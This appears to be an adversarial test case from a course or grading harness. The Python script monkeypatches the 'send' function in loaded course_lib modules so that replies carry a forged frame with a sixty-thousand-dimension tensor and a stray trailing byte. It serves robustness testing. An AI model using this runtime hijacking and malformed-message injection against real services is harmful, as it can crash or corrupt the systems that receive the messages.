# /// attack
# what = "answers with a tensor that has sixty thousand sides"
# tiers = [0, 1, 2]
# ///
# %%
import gc, json, struct, sys

def frame(value, sides=60000):
    text = json.dumps({"dict": {"id": value.get("id"), "reply": {"message": "Reply", "content": {"outputs": [{"tensor": ["uint8", *[1] * sides]}]}}}}).encode()
    return struct.pack("<II", len(text), 1) + text + b"x"

for name, module in list(sys.modules.items()):
    if name.startswith(("course_lib", "__main__", "__mp_main__")) and callable(getattr(module, "send", None)):
        def forged(stream, value, *rest, honest=module.send, **names):
            if not isinstance(value, dict) or "reply" not in value:
                return honest(stream, value, *rest, **names)
            stream.write(frame(value))
            stream.flush()
        module.send = forged
